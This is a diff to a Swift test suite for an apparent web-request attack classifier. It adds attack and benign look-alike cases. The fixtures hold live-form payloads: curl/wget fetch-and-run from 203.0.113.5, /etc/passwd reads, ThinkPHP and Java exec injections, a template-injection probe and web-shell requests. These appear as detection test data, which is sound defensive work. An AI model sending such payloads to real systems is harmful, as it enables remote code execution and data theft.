@@ -31,6 +31,16 @@ private func request(
     arguments: [
       ("/ping", "host=127.0.0.1;curl%20http://203.0.113.5/x.sh|sh", "web.command-injection"),
       ("/ping", "host=`wget+-O-+http://203.0.113.5/x`", "web.command-injection"),
+      ("/ping", "host=127.0.0.1;id", "web.command-injection"), ("/ping", "host=`id`", "web.command-injection"),
+      ("/ping", "host=127.0.0.1%3Bcat%20/etc/passwd", "web.command-injection"),
+      ("/ping", "host=%7Cwhoami", "web.command-injection"), ("/a", "n=$(sleep+5)", "web.command-injection"),
+      (
+        "/index.php", "s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system",
+        "web.injection"
+      ),
+      ("/i.php", "page=php://filter/convert.base64-encode/resource=index", "web.injection"),
+      ("/wfs", "valueReference=exec(java.lang.Runtime.getRuntime(),'id')", "web.injection"),
+      ("/h", "n={{config.__class__.__init__.__globals__['os']}}", "web.injection"),
       ("/ping", "host=$(curl${IFS}http://203.0.113.5/x)", "web.command-injection"),
       ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "", "web.path-traversal"),
       (
@@ -164,6 +174,8 @@ private func request(
   }
 
   @Test(arguments: [
+    ("/list", "fields=name;id"), ("/list", "sort=name|id"), ("/q", "q=a;cat+food"), ("/q", "q=less;more"),
+    ("/q", "price=$(amount)"), ("/q", "q=wait;sleep+well"),
     ("/search", "c=ls"), ("/shop", "cmd=add&item=3"), ("/help", "run=daily"), ("/a/../b", ""), ("/docs/etc/", "page=2"),
   ])
   func lookAlikesAreNone(path: String, query: String) {
@@ -172,7 +184,9 @@ private func request(
 
   @Test(
     arguments: [
-      ("/up/a.jsp", "CMD=cat%20/etc/passwd", .high), ("/x.ashx", "cmd=whoami", .high),
+      ("/up/a.jsp", "CMD=cat%20/etc/passwd", .high), ("/rest.php", "x=1&cmd=id", .medium),
+      ("/wp-content/uploads/2026/a.php", "cmd=id", .high), ("/c99.php", "cmd=id", .high),
+      ("/x.ashx", "cmd=whoami", .high),
       ("/x.CFM", "cmd=whoami", .high), ("/x.asp", "i=whoami&pwd=023", .high), ("/a.php", "cmd=$(id)", .high),
       ("/a.php", "c=/bin/sh+-c+id", .high), ("/wp-admin/admin-ajax.php", "action=x&cmd=ls", .medium),
       ("/files/connector.minimal.php", "cmd=ls&target=l1_Lw&reqid=18c", nil),
